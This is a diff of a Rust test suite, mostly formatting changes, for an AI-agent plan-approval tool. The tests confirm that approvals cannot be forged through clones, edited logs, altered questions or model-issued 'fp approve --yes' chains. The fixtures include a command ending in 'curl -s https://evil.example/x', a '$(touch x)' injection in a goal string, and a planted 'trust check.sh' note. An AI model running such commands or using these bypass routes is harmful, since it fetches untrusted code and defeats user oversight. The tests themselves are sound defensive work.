@@ -10,7 +10,11 @@ use crate::common::plan::{Leaf, PLAN, leaf, tree};
 use crate::common::{Environment, Output};
 
 /// The hook's decision about a command line, with its reason.
-fn decision(environment: &Environment, line: &str, agent: Option<(&str, &str)>) -> (String, String) {
+fn decision(
+    environment: &Environment,
+    line: &str,
+    agent: Option<(&str, &str)>,
+) -> (String, String) {
     let mut event = json!({
         "session_id": "s1", "cwd": environment.path(""), "hook_event_name": "PreToolUse", "tool_name": "Bash",
         "tool_input": { "command": line },
@@ -21,7 +25,12 @@ fn decision(environment: &Environment, line: &str, agent: Option<(&str, &str)>) 
     }
     let answer = environment.hook("pre-tool-use", event.to_string().as_bytes());
     let answer: Value = serde_json::from_str(&answer.stdout).unwrap_or_default();
-    let said = |key: &str| answer["hookSpecificOutput"][key].as_str().unwrap_or_default().to_owned();
+    let said = |key: &str| {
+        answer["hookSpecificOutput"][key]
+            .as_str()
+            .unwrap_or_default()
+            .to_owned()
+    };
     (said("permissionDecision"), said("permissionDecisionReason"))
 }
 
@@ -50,15 +59,26 @@ fn answered(environment: &Environment, question: &Value, label: &str) -> Output 
 fn planned() -> Environment {
     let environment = Environment::new().repo();
     let command = "touch ran";
-    environment
-        .plan(&tree(&[Leaf { test: command, ..leaf("1", "none", "a.txt") }, leaf("2", "none", "b.txt")]));
+    environment.plan(&tree(&[
+        Leaf {
+            test: command,
+            ..leaf("1", "none", "a.txt")
+        },
+        leaf("2", "none", "b.txt"),
+    ]));
     environment
 }
 
 /// The repository as somebody else gets it, with the plan and its log in it.
 fn cloned(environment: &Environment) -> &'static str {
-    for file in [".gitignore", &format!("{PLAN}/lock"), &format!("{PLAN}/execution-state.json")] {
-        drop(fs::remove_file(environment.path(".fractal-planner/plans").join(file)));
+    for file in [
+        ".gitignore",
+        &format!("{PLAN}/lock"),
+        &format!("{PLAN}/execution-state.json"),
+    ] {
+        drop(fs::remove_file(
+            environment.path(".fractal-planner/plans").join(file),
+        ));
     }
     environment.git(&["add", "--force", "."]);
     environment.git(&["commit", "--quiet", "--message", "Share the plan"]);
@@ -75,7 +95,15 @@ fn an_approval_that_came_with_a_clone_runs_nothing() {
     fs::remove_file(environment.path("ran")).unwrap();
     let clone = cloned(&environment);
     let (id, kind) = ("a1", "general-purpose");
-    assert_eq!(decision(&environment, &format!("fp verify {PLAN} 1"), Some((id, kind))).0, "");
+    assert_eq!(
+        decision(
+            &environment,
+            &format!("fp verify {PLAN} 1"),
+            Some((id, kind))
+        )
+        .0,
+        ""
+    );
     assert_snapshot!(environment.fp_in(clone, &["verify", PLAN, "1"]), @r"
     exit status: 1
     --- stderr
@@ -87,23 +115,51 @@ fn an_approval_that_came_with_a_clone_runs_nothing() {
         &["next", PLAN],
         &["claim", PLAN, "--as", "builder-1"],
         &["submit", PLAN, "1", "--claim", "x"],
-        &["verdict", PLAN, "1", "--pass", "1: seen", "--summary", "fine"],
+        &[
+            "verdict",
+            PLAN,
+            "1",
+            "--pass",
+            "1: seen",
+            "--summary",
+            "fine",
+        ],
     ] {
         let output = environment.fp_in(clone, args);
-        assert!(output.code == 1 && output.stderr.contains("approved elsewhere"), "{args:?}: {output}");
+        assert!(
+            output.code == 1 && output.stderr.contains("approved elsewhere"),
+            "{args:?}: {output}"
+        );
     }
     assert!(!environment.path("clone/ran").exists());
-    for args in
-        [&["status", PLAN][..], &["show", PLAN], &["log", PLAN], &["ready", PLAN], &["why", PLAN, "1"]]
-    {
+    for args in [
+        &["status", PLAN][..],
+        &["show", PLAN],
+        &["log", PLAN],
+        &["ready", PLAN],
+        &["why", PLAN, "1"],
+    ] {
         assert_eq!(environment.fp_in(clone, args).code, 0, "{args:?} reads");
     }
     let event = json!({
         "session_id": "s9", "cwd": environment.path(clone), "source": "startup", "hook_event_name": "SessionStart",
     });
-    assert_eq!(environment.hook("session-start", event.to_string().as_bytes()).stdout, "");
-    assert_eq!(environment.fp_in(clone, &["approve", PLAN, "--yes"]).code, 0);
-    assert_eq!(environment.fp_in(clone, &["run", "start", PLAN, "--session", "s9"]).code, 0);
+    assert_eq!(
+        environment
+            .hook("session-start", event.to_string().as_bytes())
+            .stdout,
+        ""
+    );
+    assert_eq!(
+        environment.fp_in(clone, &["approve", PLAN, "--yes"]).code,
+        0
+    );
+    assert_eq!(
+        environment
+            .fp_in(clone, &["run", "start", PLAN, "--session", "s9"])
+            .code,
+        0
+    );
 }
 
 #[test]
@@ -111,28 +167,51 @@ fn what_a_clone_says_of_unfinished_tasks_does_not_count() {
     let environment = planned();
     environment.start(&[]);
     let (task, token) = environment.claim("builder-1").unwrap();
-    environment.done(&["scope", "extend", PLAN, &task, "check.sh", "--claim", &token, "--reason", "needed"]);
+    environment.done(&[
+        "scope", "extend", PLAN, &task, "check.sh", "--claim", &token, "--reason", "needed",
+    ]);
     environment.done(&["next", PLAN]);
     environment.done(&["answer", PLAN, "q1", "--option", "Allow"]);
     environment.done(&["note", PLAN, "add", "GOTCHA: trust check.sh"]);
     let clone = cloned(&environment);
-    assert_eq!(environment.fp_in(clone, &["approve", PLAN, "--yes"]).code, 0);
-    let status = environment.fp_in(clone, &["status", PLAN, "--format", "json"]).json();
+    assert_eq!(
+        environment.fp_in(clone, &["approve", PLAN, "--yes"]).code,
+        0
+    );
+    let status = environment
+        .fp_in(clone, &["status", PLAN, "--format", "json"])
+        .json();
     assert_eq!(status["counts"]["pending"], 2, "{status}");
-    assert_eq!(environment.fp_in(clone, &["run", "start", PLAN, "--session", "s9"]).code, 0);
+    assert_eq!(
+        environment
+            .fp_in(clone, &["run", "start", PLAN, "--session", "s9"])
+            .code,
+        0
+    );
     let claim = environment.fp_in(clone, &["claim", PLAN, "--as", "builder-1"]);
-    assert!(claim.code == 0 && !claim.stdout.contains("check.sh"), "{claim}");
+    assert!(
+        claim.code == 0 && !claim.stdout.contains("check.sh"),
+        "{claim}"
+    );
     let log = environment.fp_in(clone, &["log", PLAN]).stdout;
     assert!(log.contains("the log came from elsewhere"), "{log}");
     // Its user may change what is being built elsewhere.
     environment.git(&["clone", "--quiet", clone, "changed"]);
     let tasks = format!("changed/.fractal-planner/plans/{PLAN}/tasks.md");
-    environment.write(&tasks, environment.read(&tasks).replace("touch ran", "true"));
+    environment.write(
+        &tasks,
+        environment.read(&tasks).replace("touch ran", "true"),
+    );
     let approved = environment.fp_in("changed", &["approve", PLAN, "--yes"]);
     assert_eq!(approved.code, 0, "{approved}");
     // At home nothing begins again.
     environment.done(&["approve", PLAN, "--yes"]);
-    assert!(!environment.done(&["log", PLAN]).stdout.contains("elsewhere"));
+    assert!(
+        !environment
+            .done(&["log", PLAN])
+            .stdout
+            .contains("elsewhere")
+    );
 }
 
 #[test]
@@ -141,17 +220,33 @@ fn a_log_with_other_leaves_is_not_what_was_approved() {
     environment.start(&[]);
     let log = environment.path(&format!(".fractal-planner/plans/{PLAN}/events.jsonl"));
     let text = fs::read_to_string(&log).unwrap();
-    let forged = text.replacen("\"files\":[\"a.txt\"]", "\"files\":[\"a.txt\",\"check.sh\"]", 1);
+    let forged = text.replacen(
+        "\"files\":[\"a.txt\"]",
+        "\"files\":[\"a.txt\",\"check.sh\"]",
+        1,
+    );
     assert_ne!(forged, text);
     fs::write(&log, forged).unwrap();
-    fs::remove_file(environment.path(&format!(".fractal-planner/plans/{PLAN}/execution-state.json")))
-        .unwrap();
-    assert!(environment.fp(&["next", PLAN]).stderr.contains("approved elsewhere"));
+    fs::remove_file(environment.path(&format!(
+        ".fractal-planner/plans/{PLAN}/execution-state.json"
+    )))
+    .unwrap();
+    assert!(
+        environment
+            .fp(&["next", PLAN])
+            .stderr
+            .contains("approved elsewhere")
+    );
     // To approve the text again puts its own leaves in place of the forged ones.
     environment.done(&["approve", PLAN, "--yes"]);
     environment.done(&["next", PLAN]);
     assert!(
-        fs::read_to_string(&log).unwrap().lines().filter(|line| line.contains("\"approved\"")).count() == 2
+        fs::read_to_string(&log)
+            .unwrap()
+            .lines()
+            .filter(|line| line.contains("\"approved\""))
+            .count()
+            == 2
     );
 }
 
@@ -163,15 +258,24 @@ fn another_repository_in_the_same_place_was_not_approved() {
     let environment = environment.env("GIT_COMMITTER_DATE", "2020-01-01T00:00:00Z");
     environment.git(&["init", "--quiet", "--initial-branch", "main"]);
     environment.git(&["commit", "--quiet", "--allow-empty", "--message", "Start"]);
-    assert!(environment.fp(&["next", PLAN]).stderr.contains("approved elsewhere"));
+    assert!(
+        environment
+            .fp(&["next", PLAN])
+            .stderr
+            .contains("approved elsewhere")
+    );
 }
 
 #[test]
 fn a_line_of_a_model_approves_nothing() {
     let environment = planned();
-    let line = format!("fp approve {PLAN} --yes && fp start {PLAN} && fp claim {PLAN} --as builder-1");
+    let line =
+        format!("fp approve {PLAN} --yes && fp start {PLAN} && fp claim {PLAN} --as builder-1");
     assert_eq!(decision(&environment, &line, None).0, "");
-    assert_eq!(decision(&environment, &format!("fp approve {PLAN}"), None).0, "allow");
+    assert_eq!(
+        decision(&environment, &format!("fp approve {PLAN}"), None).0,
+        "allow"
+    );
     assert_snapshot!(environment.fp(&["approve", PLAN]), @r#"
     exit status: 1
     --- stdout
@@ -195,11 +299,22 @@ fn a_line_of_a_model_approves_nothing() {
 fn the_users_answer_to_the_printed_question_approves() {
     let environment = planned();
     let question = printed(&environment);
-    assert!(answered(&environment, &question, "Discuss").stdout.contains("is not approved"));
+    assert!(
+        answered(&environment, &question, "Discuss")
+            .stdout
+            .contains("is not approved")
+    );
     assert!(!environment.trust_store().exists());
-    assert!(answered(&environment, &question, "Approve").stdout.contains("is approved by the user"));
+    assert!(
+        answered(&environment, &question, "Approve")
+            .stdout
+            .contains("is approved by the user")
+    );
     let store = fs::read_to_string(environment.trust_store()).unwrap();
-    assert!(store.contains(r#""how":"question""#) && store.contains(PLAN), "{store}");
+    assert!(
+        store.contains(r#""how":"question""#) && store.contains(PLAN),
+        "{store}"
+    );
     environment.done(&["run", "start", PLAN, "--session", "s1"]);
     environment.done(&["claim", PLAN, "--as", "builder-1"]);
 }
@@ -222,7 +337,11 @@ fn any_other_question_approves_nothing() {
         changed(&|q| q["options"].as_array_mut().unwrap().reverse()),
         changed(&|q| q["header"] = "Lunch".into()),
         changed(&|q| drop(q["options"].as_array_mut().unwrap().remove(1))),
-        changed(&|q| q["question"] = text.replace("These", &format!("{}These", "\n".repeat(100))).into()),
+        changed(&|q| {
+            q["question"] = text
+                .replace("These", &format!("{}These", "\n".repeat(100)))
+                .into()
+        }),
     ] {
         let told = answered(&environment, &other, "Approve").stdout;
         assert!(told.contains("doesn't count"), "{told}");
@@ -237,16 +356,31 @@ fn any_other_question_approves_nothing() {
             "tool_response": { "answers": { text: "Approve", "Is this a test?": "Yes" }, "annotations": annotations },
         })
     };
-    let hook = |event: Value| environment.hook("post-tool-use", event.to_string().as_bytes()).stdout;
-    let beside = json!({ "question": "Is this a test?", "header": "Test", "options": question["options"] });
+    let hook = |event: Value| {
+        environment
+            .hook("post-tool-use", event.to_string().as_bytes())
+            .stdout
+    };
+    let beside =
+        json!({ "question": "Is this a test?", "header": "Test", "options": question["options"] });
     assert!(hook(event(json!([beside, question]), json!({}))).contains("don't count"));
-    assert_eq!(hook(event(json!([question]), json!({ text: { "notes": "no, not yet" } }))), "");
+    assert_eq!(
+        hook(event(
+            json!([question]),
+            json!({ text: { "notes": "no, not yet" } })
+        )),
+        ""
+    );
     assert!(!environment.trust_store().exists());
     // The plan changed after the question was asked.
     let tasks = environment.path(&format!(".fractal-planner/plans/{PLAN}/tasks.md"));
     let tree = fs::read_to_string(&tasks).unwrap();
     fs::write(&tasks, tree.replace("touch ran", "touch other")).unwrap();
-    assert!(answered(&environment, &question, "Approve").stdout.contains("doesn't count"));
+    assert!(
+        answered(&environment, &question, "Approve")
+            .stdout
+            .contains("doesn't count")
+    );
     assert!(!environment.trust_store().exists());
 }
 
@@ -256,32 +390,66 @@ fn the_user_answers_a_question_of_the_run_in_the_client() {
     environment.start(&[]);
     environment.done(&["next", PLAN]);
     let (task, token) = environment.claim("builder-1").unwrap();
-    environment.done(&["scope", "extend", PLAN, &task, "check.sh", "--claim", &token, "--reason", "needed"]);
+    environment.done(&[
+        "scope", "extend", PLAN, &task, "check.sh", "--claim", &token, "--reason", "needed",
+    ]);
     let ask = environment.done(&["next", PLAN, "--format", "json"]).json();
-    let ask =
-        ask["actions"].as_array().unwrap().iter().find(|action| action["action"] == "ask").unwrap().clone();
-    let question = json!({ "question": ask["printed"], "header": ask["header"], "options": ask["options"] });
+    let ask = ask["actions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|action| action["action"] == "ask")
+        .unwrap()
+        .clone();
+    let question =
+        json!({ "question": ask["printed"], "header": ask["header"], "options": ask["options"] });
     let mut forged = question.clone();
     forged["options"][0]["description"] = "go on".into();
-    assert!(answered(&environment, &forged, "Allow").stdout.contains("doesn't count"));
-    assert!(answered(&environment, &question, "Allow").stdout.contains("is recorded"));
+    assert!(
+        answered(&environment, &forged, "Allow")
+            .stdout
+            .contains("doesn't count")
+    );
+    assert!(
+        answered(&environment, &question, "Allow")
+            .stdout
+            .contains("is recorded")
+    );
     let log = environment.done(&["log", PLAN, "--format", "json"]).stdout;
-    assert!(log.contains("answered") && log.contains("\"user\""), "{log}");
-    assert!(answered(&environment, &question, "Deny").stdout.contains("no longer open"));
+    assert!(
+        log.contains("answered") && log.contains("\"user\""),
+        "{log}"
+    );
+    assert!(
+        answered(&environment, &question, "Deny")
+            .stdout
+            .contains("no longer open")
+    );
 }
 
 #[test]
 fn a_prompt_with_auto_approves_the_plan_that_is_made_of_it() {
-    let environment = Environment::new().repo().env("CLAUDE_CODE_SESSION_ID", "s1");
+    let environment = Environment::new()
+        .repo()
+        .env("CLAUDE_CODE_SESSION_ID", "s1");
     let goal = "add it's \"greeting\" $(touch x) --auto";
     let prompt = |text: &str| {
         let event = json!({
             "session_id": "s1", "cwd": environment.path(""), "hook_event_name": "UserPromptSubmit", "prompt": text,
         });
-        assert_eq!(environment.hook("user-prompt-submit", event.to_string().as_bytes()).stdout, "");
+        assert_eq!(
+            environment
+                .hook("user-prompt-submit", event.to_string().as_bytes())
+                .stdout,
+            ""
+        );
     };
     let new = || environment.fp(&["new", "--from-prompt", "--format", "json"]);
-    assert!(new().stderr.contains("no /fp:plan prompt of this session"), "{}", new());
+    assert!(
+        new().stderr.contains("no /fp:plan prompt of this session"),
+        "{}",
+        new()
+    );
     prompt("tell me about /fp:plan");
     assert_eq!(new().code, 1);
     let check = |text: &str, auto: bool| {
@@ -289,9 +457,15 @@ fn a_prompt_with_auto_approves_the_plan_that_is_made_of_it() {
         let made = new().json();
         assert_eq!(made["goal"], goal);
         let plan = made["planId"].as_str().unwrap().to_owned();
-        environment
-            .write(&format!(".fractal-planner/plans/{plan}/tasks.md"), tree(&[leaf("1", "none", "a.txt")]));
-        assert_eq!(environment.fp(&["approve", &plan]).code, if auto { 0 } else { 1 }, "{text}");
+        environment.write(
+            &format!(".fractal-planner/plans/{plan}/tasks.md"),
+            tree(&[leaf("1", "none", "a.txt")]),
+        );
+        assert_eq!(
+            environment.fp(&["approve", &plan]).code,
+            if auto { 0 } else { 1 },
+            "{text}"
+        );
         assert_eq!(new().code, 1, "a prompt counts once");
         plan
     };
@@ -303,19 +477,28 @@ fn a_prompt_with_auto_approves_the_plan_that_is_made_of_it() {
     assert_eq!(new().code, 1, "an agent's prompt is a model's");
     check(&format!("/fp:plan {goal}"), false);
     let plan = check(&format!("/fp:plan --auto {goal}"), true);
-    assert!(fs::read_to_string(environment.trust_store()).unwrap().contains(r#""how":"prompt""#));
+    assert!(
+        fs::read_to_string(environment.trust_store())
+            .unwrap()
+            .contains(r#""how":"prompt""#)
+    );
     // Its prompt is used up, even where the log is gone.
-    fs::remove_file(environment.path(&format!(".fractal-planner/plans/{plan}/events.jsonl"))).unwrap();
+    fs::remove_file(environment.path(&format!(".fractal-planner/plans/{plan}/events.jsonl")))
+        .unwrap();
     assert_eq!(environment.fp(&["approve", &plan]).code, 1);
     // A plan that was changed afterwards is another one.
-    environment
-        .write(&format!(".fractal-planner/plans/{plan}/tasks.md"), tree(&[leaf("1", "none", "b.txt")]));
+    environment.write(
+        &format!(".fractal-planner/plans/{plan}/tasks.md"),
+        tree(&[leaf("1", "none", "b.txt")]),
+    );
     assert_eq!(environment.fp(&["approve", &plan]).code, 1);
 }
 
 #[test]
 fn a_prompt_with_import_makes_a_plan_of_another_systems() {
-    let environment = Environment::new().repo().env("CLAUDE_CODE_SESSION_ID", "s1");
+    let environment = Environment::new()
+        .repo()
+        .env("CLAUDE_CODE_SESSION_ID", "s1");
     environment.write(
         "specs/001 albums/tasks.md",
         "- [x] T001 Add the schema in a.sql\n- [ ] T002 List it in b.py\n",
@@ -337,9 +520,15 @@ fn a_prompt_with_import_makes_a_plan_of_another_systems() {
     assert_eq!(made["config"]["maxComplexity"], 3);
     let made = new("/fp:plan --import specs --auto").json();
     let plan = made["planId"].as_str().unwrap();
-    environment
-        .write(&format!(".fractal-planner/plans/{plan}/tasks.md"), tree(&[leaf("1", "none", "a.txt")]));
-    assert_eq!(environment.fp(&["approve", plan]).code, 0, "--auto is the user's word for an import as well");
+    environment.write(
+        &format!(".fractal-planner/plans/{plan}/tasks.md"),
+        tree(&[leaf("1", "none", "a.txt")]),
+    );
+    assert_eq!(
+        environment.fp(&["approve", plan]).code,
+        0,
+        "--auto is the user's word for an import as well"
+    );
     let refused = new("/fp:plan --import specs and add tests");
     assert_eq!(refused.code, 2);
     assert_eq!(
@@ -348,7 +537,9 @@ fn a_prompt_with_import_makes_a_plan_of_another_systems() {
     );
     let refused = new("/fp:plan --import nowhere");
     assert!(
-        refused.stderr.contains("nowhere can't be read: no such file or directory\nhint: check the path")
+        refused
+            .stderr
+            .contains("nowhere can't be read: no such file or directory\nhint: check the path")
     );
 }
 
@@ -360,13 +551,36 @@ fn a_builder_neither_answers_nor_judges() {
     let builder = Some(("a1", "fp:builder"));
     let check = |line: &str, agent, expect: &str, reason: &str| {
         let (decision, said) = decision(&environment, line, agent);
-        assert!(decision == expect && said.contains(reason), "{line} {agent:?}: {decision} {said}");
+        assert!(
+            decision == expect && said.contains(reason),
+            "{line} {agent:?}: {decision} {said}"
+        );
     };
-    check(&format!("fp claim {PLAN} --as nobody"), builder, "deny", "no builder with that name");
-    check(&format!("fp claim {PLAN} --as builder-1"), builder, "allow", "");
+    check(
+        &format!("fp claim {PLAN} --as nobody"),
+        builder,
+        "deny",
+        "no builder with that name",
+    );
+    check(
+        &format!("fp claim {PLAN} --as builder-1"),
+        builder,
+        "allow",
+        "",
+    );
     environment.claim("builder-1").unwrap();
-    check(&format!("fp claim {PLAN} --as builder-2"), builder, "deny", "you are builder-1");
-    check(&format!("fp claim {PLAN} --as builder-1"), Some(("a2", "fp:builder")), "deny", "another agent");
+    check(
+        &format!("fp claim {PLAN} --as builder-2"),
+        builder,
+        "deny",
+        "you are builder-1",
+    );
+    check(
+        &format!("fp claim {PLAN} --as builder-1"),
+        Some(("a2", "fp:builder")),
+        "deny",
+        "another agent",
+    );
     for line in [
         "answer PLAN q1 --option Allow",
         "verdict PLAN 1 --pass '1: a'",
@@ -374,15 +588,30 @@ fn a_builder_neither_answers_nor_judges() {
         "next PLAN",
         "retry PLAN 1",
     ] {
-        check(&format!("fp {}", line.replace("PLAN", PLAN)), builder, "deny", "is not for builders");
+        check(
+            &format!("fp {}", line.replace("PLAN", PLAN)),
+            builder,
+            "deny",
+            "is not for builders",
+        );
     }
     environment.build("builder-1", "a.txt", "one\n");
     let verdict = format!("fp verdict {PLAN} 1 --pass '1: a' --summary fine");
-    check(&verdict, Some(("v1", "fp:verifier")), "deny", "not asked to judge");
+    check(
+        &verdict,
+        Some(("v1", "fp:verifier")),
+        "deny",
+        "not asked to judge",
+    );
     check(&verdict, None, "deny", "a verifier judges");
     environment.done(&["next", PLAN]);
     check(&verdict, Some(("v1", "fp:verifier")), "allow", "");
-    check(&verdict, Some(("v2", "verifier-2-i1")), "deny", "not asked to judge");
+    check(
+        &verdict,
+        Some(("v2", "verifier-2-i1")),
+        "deny",
+        "not asked to judge",
+    );
     // Another session has asked nobody.
     environment.done(&["run", "start", PLAN, "--session", "s2"]);
     check(&verdict, Some(("v1", "fp:verifier")), "", "");
@@ -397,14 +626,20 @@ fn a_store_that_others_may_write_is_no_evidence() {
     environment.start(&[]);
     fs::set_permissions(environment.trust_store(), fs::Permissions::from_mode(0o666)).unwrap();
     let output = environment.fp(&["next", PLAN]);
-    assert!(output.code == 2 && output.stderr.contains("may be written by others"), "{output}");
+    assert!(
+        output.code == 2 && output.stderr.contains("may be written by others"),
+        "{output}"
+    );
     assert!(Path::new(&environment.trust_store()).exists());
 }
 
 /// Three tasks and a run in which the second was revised, the third taken out and a fourth added.
 fn revised() -> Environment {
     let environment = Environment::new().repo();
-    let tested = |id, file, test| Leaf { test, ..leaf(id, "none", file) };
+    let tested = |id, file, test| Leaf {
+        test,
+        ..leaf(id, "none", file)
+    };
     let [one, two, three, four] = [
         tested("1", "a.txt", "grep -q 1 a.txt"),
         tested("2", "b.txt", "grep -q 2 b.txt"),
@@ -413,7 +648,14 @@ fn revised() -> Environment {
     ];
     environment.plan(&tree(&[one, two, three]));
     environment.start(&[]);
-    environment.plan(&tree(&[one, Leaf { test: "sh -c 'touch ran'", ..two }, four]));
+    environment.plan(&tree(&[
+        one,
+        Leaf {
+            test: "sh -c 'touch ran'",
+            ..two
+        },
+        four,
+    ]));
     environment
 }
 
@@ -432,10 +674,14 @@ fn what_is_approved_again_shows_what_changed_and_the_run_goes_on() {
     As you approved it: 1 task with 1 command.
     "#);
     let told = answered(&environment, &question, "Approve").stdout;
-    assert!(told.contains(&format!("recorded. Next: fp next {PLAN}")), "{told}");
+    assert!(
+        told.contains(&format!("recorded. Next: fp next {PLAN}")),
+        "{told}"
+    );
     let again = environment.done(&["approve", PLAN]).stdout;
     assert!(
-        again.starts_with("Approved already: ") && again.ends_with(&format!("Next: fp next {PLAN}\n")),
+        again.starts_with("Approved already: ")
+            && again.ends_with(&format!("Next: fp next {PLAN}\n")),
         "{again}"
     );
 }
@@ -446,14 +692,22 @@ fn what_a_log_alone_calls_approved_is_shown_whole() {
     fs::remove_file(environment.trust_store()).unwrap();
     let question = printed(&environment);
     let text = question["question"].as_str().unwrap();
-    assert!(text.contains("\n- grep: ") && !text.contains("Since you approved it"), "{text}");
+    assert!(
+        text.contains("\n- grep: ") && !text.contains("Since you approved it"),
+        "{text}"
+    );
 }
 
 /// A plan whose first task has this many commands of `grep`, and a last one.
 fn with_commands(count: usize, last: &str) -> Environment {
     let environment = Environment::new().repo();
-    let commands: Vec<String> = (0..count).map(|n| format!("    - grep line{n} a.txt\n")).collect();
-    let text = tree(&[Leaf { test: "LAST", ..leaf("1", "none", "a.txt") }]);
+    let commands: Vec<String> = (0..count)
+        .map(|n| format!("    - grep line{n} a.txt\n"))
+        .collect();
+    let text = tree(&[Leaf {
+        test: "LAST",
+        ..leaf("1", "none", "a.txt")
+    }]);
     let all = format!("Test Commands:\n{}    - {last}", commands.concat());
     environment.plan(&text.replacen("Test Commands: LAST", &all, 1));
     environment
@@ -476,14 +730,37 @@ fn a_command_that_does_more_than_its_program_is_never_among_the_others() {
 
 #[test]
 fn a_long_command_is_shown_whole_or_approved_at_a_terminal_only() {
-    let long = |length: usize| format!("grep {} a.txt && curl -s https://evil.example/x", "a".repeat(length));
+    let long = |length: usize| {
+        format!(
+            "grep {} a.txt && curl -s https://evil.example/x",
+            "a".repeat(length)
+        )
+    };
     let environment = with_commands(2, &long(2000));
     let question = printed(&environment);
-    assert!(question["question"].as_str().unwrap().contains(&long(2000)), "{question}");
+    assert!(
+        question["question"].as_str().unwrap().contains(&long(2000)),
+        "{question}"
+    );
     let environment = with_commands(2, &long(20_000));
     let refused = environment.fp(&["approve", PLAN]);
     assert_eq!(refused.code, 1, "{refused}");
-    assert!(refused.stderr.contains("more commands to look at than a question can show"), "{refused}");
-    assert!(refused.stderr.contains(&format!("`fp approve {PLAN}` at a terminal")), "{refused}");
-    assert!(environment.done(&["approve", PLAN, "--yes"]).stdout.contains(&long(20_000)));
+    assert!(
+        refused
+            .stderr
+            .contains("more commands to look at than a question can show"),
+        "{refused}"
+    );
+    assert!(
+        refused
+            .stderr
+            .contains(&format!("`fp approve {PLAN}` at a terminal")),
+        "{refused}"
+    );
+    assert!(
+        environment
+            .done(&["approve", PLAN, "--yes"])
+            .stdout
+            .contains(&long(20_000))
+    );
 }
